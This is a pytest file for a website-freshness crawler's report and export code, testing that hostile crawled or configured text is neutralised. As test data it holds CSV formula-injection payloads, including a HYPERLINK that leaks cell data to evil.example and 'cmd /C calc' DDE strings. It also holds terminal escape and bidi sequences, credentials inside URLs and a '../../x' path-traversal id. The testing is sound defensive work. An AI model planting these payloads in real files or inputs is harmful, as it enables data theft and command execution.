"""Hostile text in what the tool writes out: spreadsheets, terminals, XML, file names, URLs.

Each test performs the misuse: a formula in a crawled snippet or a configured name, terminal
escape sequences in crawled text, XML-illegal characters and credentials in stored rows, and
an agency id that climbs out of the report folder (a merged shard may hold anything).
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
import xml.etree.ElementTree as ElementTree
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from lxml import etree

from crawler.cli import main
from crawler.config import Agency
from crawler.judge.explain import Diagnosis, SetAside
from crawler.model import (
    Category,
    Confidence,
    Evidence,
    FailureKind,
    Fetch,
    PageRole,
    PpidDocument,
    PpidResult,
    PpidStatus,
    SetAsideDate,
    SiteObservation,
    SiteResult,
    Source,
    Status,
)
from crawler.store import RunState, Store
from reports.build import ReportError, build_report
from reports.check import check_json, explain, printable
from reports.export import FIELDS, to_csv, to_json
from reports.render import render_report

START = datetime(2026, 11, 9, 2, 0, tzinfo=UTC)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _store_with(
    tmp_path: Path, agencies: list[Agency], results: list[SiteResult], weeks: int = 1
) -> Store:
    """`weeks` complete runs of the same agencies and verdicts, written through the store."""
    store = Store(tmp_path / "f.db")
    for week in range(weeks):
        started = START + timedelta(weeks=week)
        run_id = store.start_run(started, started.date(), agencies)
        evidence = [(r.agency_id, r.evidence) for r in results if r.evidence]
        fetches = [(a.id, Fetch(a.url, PageRole.HOMEPAGE, 200)) for a in agencies]
        store.add_observations(run_id, fetches, evidence)
        store.save_results(run_id, [replace(r, score=r.score + week) for r in results])
        store.finish_run(run_id, state=RunState.COMPLETE, finished_at=started, reason="ok")
    return store


def _everything_under(folder: Path) -> str:
    return "".join(p.read_text(encoding="utf-8") for p in folder.rglob("*") if p.is_file())


# -- 1. spreadsheet formulas in CSV -----------------------------------------------------------


def _hostile_records() -> list[dict[str, object]]:
    records = []
    for i, formula in enumerate(FORMULAS):
        rec: dict[str, object] = {name: None for name in FIELDS}
        rec.update(
            id=f"a{i}", name=formula, url="https://a.go.id/", status="fresh",
            evidence_snippet=formula, days_since_update=-3, score=-1, flags=[formula],
            items_30d=0, run_id=1, as_of="2026-11-09", last_updated="2026-11-01",
        )  # fmt: skip
        records.append(rec)
    return records


def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers():
    records = _hostile_records()
    rows = list(csv.DictReader(io.StringIO(to_csv(records))))
    assert len(rows) == len(FORMULAS)
    for row, formula in zip(rows, FORMULAS, strict=True):
        for column in ("name", "evidence_snippet", "flags"):
            assert row[column] == "'" + formula, column  # OWASP: a leading quote keeps it text
        assert row["days_since_update"] == "-3" and row["score"] == "-1"  # numbers, not text
        assert row["url"] == "https://a.go.id/" and row["last_updated"] == "2026-11-01"
    assert [r["name"] for r in json.loads(to_json(records))] == FORMULAS  # JSON keeps it raw


def test_csv_export_and_report_neutralise_a_formula_in_a_configured_name(tmp_path):
    formula = FORMULAS[0]
    agency = Agency("evil", formula, "https://evil.example.go.id/", "dinas")
    evidence = Evidence(Source.FEED, "https://evil.example.go.id/b/1", date(2026, 11, 1), formula)
    result = SiteResult("evil", Status.FRESH, date(2026, 11, 1), 8, Confidence.LOW, evidence, 70)
    store = _store_with(tmp_path, [agency], [result])
    out = render_report(build_report(store, None, START), tmp_path / "public")
    exported = CliRunner().invoke(
        main, ["export", "--db", str(tmp_path / "f.db"), "--format", "csv"]
    )
    assert exported.exit_code == 0, exported.output
    for text in ((out / "results.csv").read_text(encoding="utf-8"), exported.output):
        (row,) = csv.DictReader(io.StringIO(text))
        assert row["name"] == "'" + formula and row["evidence_snippet"] == "'" + formula
    (published,) = json.loads((out / "results.json").read_text(encoding="utf-8"))
    assert published["name"] == formula


# -- 2. terminal escapes in `freshness check` ------------------------------------------------

ESCAPES = [
    "\x1b[2J\x1b[31mMERAH",  # clear screen, colour
    "\x1b]0;judul palsu\x07",  # OSC: window title
    "\x1b]8;;https://evil.example/\x1b\\klik\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x9b31m",  # C1 CSI
    "a\rTIMPA",  # carriage return overwrites the line
    "baris\nPALSU: segar",  # a forged line
    "\u202egnp.exe\u202c \u2066x\u2069",  # bidi overrides
    "\x07\x08\x00\x7f",
]
HOSTILE = "".join(ESCAPES)


def _unsafe_for_terminal(text: str) -> list[str]:
    return [
        c
        for c in text
        if (unicodedata.category(c) == "Cc" and c != "\n")
        or "\u202a" <= c <= "\u202e"
        or "\u2066" <= c <= "\u2069"
    ]


def _hostile_diagnosis() -> Diagnosis:
    url = "https://evil.example.go.id/" + HOSTILE
    evidence = Evidence(Source.ARTICLE, url, date(2026, 11, 1), HOSTILE, found_on=url)
    newer = Evidence(Source.SITEMAP, url + "/baru", date(2026, 11, 5), HOSTILE)
    document = PpidDocument(
        HOSTILE, url, Category.REPORT, 2026, None, date(2026, 10, 1), url
    )  # fmt: skip
    ppid = PpidResult(PpidStatus.CURRENT, url, document, 1)
    result = SiteResult(
        "site", Status.FRESH, evidence.date, 8, Confidence.LOW, evidence, 70, ("tls-error",),
        ppid=ppid,
    )  # fmt: skip
    fetch = Fetch(url, PageRole.ARTICLE, 500, FailureKind.HTTP_5XX, detail=HOSTILE)
    observation = SiteObservation("site", (fetch,), (evidence, newer))
    page_date = SetAsideDate(url, date(2026, 11, 8), "future", HOSTILE)
    return Diagnosis(url, result, observation, [(newer, SetAside.SITEMAP_ONLY)], [page_date])


def test_check_text_shows_crawled_text_without_terminal_controls():
    text = explain(_hostile_diagnosis())
    assert _unsafe_for_terminal(text) == []
    assert "MERAH" in text and "TIMPA" in text  # the text is shown, harmlessly
    assert not any(line.startswith("PALSU") for line in text.splitlines())  # no forged line
    assert printable(HOSTILE).count("\x1b") == 0


def test_check_json_stays_valid_and_keeps_the_crawled_values():
    diagnosis = _hostile_diagnosis()
    text = check_json(diagnosis)
    assert _unsafe_for_terminal(text) == []  # JSON escapes C0; C1 and bidi are escaped too
    verdict = json.loads(text)
    assert verdict["evidence_snippet"] == HOSTILE  # exactly as crawled, once parsed
    assert verdict["fetches"][0]["detail"] == HOSTILE
    assert verdict["page_dates_set_aside"][0]["snippet"] == HOSTILE


# -- 4. XML-illegal characters and credentials from the database ------------------------------

ILLEGAL = "\x01\x08\x0b\x0c\x1b[31m\x7f\x85\ufffe\uffff"


def test_feed_and_pages_stay_well_formed_with_illegal_characters_in_stored_names(tmp_path):
    agency = Agency("aneh", f"Dinas {ILLEGAL}Aneh", "https://aneh.example.go.id/", "dinas")
    evidence = Evidence(Source.FEED, "https://aneh.example.go.id/b/1", date(2026, 11, 1), ILLEGAL)
    fresh = SiteResult("aneh", Status.FRESH, date(2026, 11, 1), 8, Confidence.LOW, evidence, 70)
    store = _store_with(tmp_path, [agency], [fresh])
    later = START + timedelta(weeks=1)  # a second run where the status changes: a feed entry
    run_id = store.start_run(later, later.date(), [agency])
    store.save_results(run_id, [SiteResult("aneh", Status.UNREACHABLE, reason=ILLEGAL)])
    store.finish_run(run_id, state=RunState.COMPLETE, finished_at=later, reason="ok")
    out = render_report(build_report(store, None, later), tmp_path / "public")
    feed = (out / "changes.atom").read_bytes()
    root = etree.fromstring(feed)  # strict XML: raises on any illegal character
    ElementTree.fromstring(feed)
    titles = root.findall("{http://www.w3.org/2005/Atom}entry/{http://www.w3.org/2005/Atom}title")
    assert titles and all("Dinas [31mAneh" in t.text for t in titles)
    for page in (out / "index.html", out / "agencies" / "aneh.html"):
        html = page.read_text(encoding="utf-8")
        assert not (set(ILLEGAL) - set("[31m")) & set(html), page.name


def test_credentials_in_stored_urls_are_never_published(tmp_path):
    secret = "s3cr3t-pw"
    base = f"https://admin:{secret}@kredensial.example.go.id"
    agency = Agency("kred", "Dinas Kredensial", base + "/", "dinas")
    evidence = Evidence(
        Source.ARTICLE, base + "/berita/1", date(2026, 11, 1), f"lihat {base}/x", base + "/"
    )  # fmt: skip
    ppid = PpidResult(PpidStatus.EXTERNAL, f"http://user:{secret}@ppid.example.go.id/")
    result = SiteResult(
        "kred", Status.FRESH, date(2026, 11, 1), 8, Confidence.LOW, evidence, 70, ppid=ppid
    )  # fmt: skip
    store = _store_with(tmp_path, [agency], [result])
    store.add_observations(
        store.latest_run().id,
        [("kred", Fetch(base + "/hilang", PageRole.ARTICLE, 404, FailureKind.HTTP_4XX,
                        detail=f"redirects to {base}/lain", final_url=base + "/lain"))],
    )  # fmt: skip
    out = render_report(build_report(store, None, START), tmp_path / "public")
    published = _everything_under(out)
    assert secret not in published and "admin:" not in published
    assert "https://kredensial.example.go.id/berita/1" in published  # the URL itself stays
    exported = CliRunner().invoke(main, ["export", "--db", str(tmp_path / "f.db")])
    assert exported.exit_code == 0 and secret not in exported.output
    assert json.loads(exported.output)[0]["url"] == "https://kredensial.example.go.id/"


# -- 5. agency ids from the database become file names ----------------------------------------


def test_report_refuses_an_agency_id_that_climbs_out_of_the_folder(tmp_path):
    bad = Agency("../../x", "Dinas Jalan Keluar", "https://x.example.go.id/", "dinas")
    good = Agency("disdik", "Dinas Pendidikan", "https://disdik.example.go.id/", "dinas")
    results = [SiteResult(a.id, Status.UNDATED, score=10) for a in (good, bad)]
    (tmp_path / "db").mkdir()
    store = _store_with(tmp_path / "db", [good, bad], results, weeks=2)
    out = tmp_path / "site" / "www" / "public"
    before = sorted(p for p in tmp_path.rglob("*"))
    with pytest.raises(ReportError, match=r"'\.\./\.\./x'"):
        render_report(build_report(store, None, START), out)
    assert sorted(p for p in tmp_path.rglob("*")) == before  # nothing written anywhere
    assert not list(tmp_path.rglob("x.html"))


def test_rendering_checks_ids_again_whatever_built_the_report(tmp_path):
    good = Agency("disdik", "Dinas Pendidikan", "https://disdik.example.go.id/", "dinas")
    store = _store_with(tmp_path, [good], [SiteResult("disdik", Status.UNDATED, score=10)])
    report = build_report(store, None, START)
    item = report.agencies[0]
    forged = replace(report, agencies=(replace(item, agency=replace(good, id="../../x")),))
    out = tmp_path / "a" / "b" / "public"
    with pytest.raises(ReportError, match=r"\.\./\.\./x"):
        render_report(forged, out)
    assert not list(tmp_path.rglob("x.html"))
    assert not out.exists()
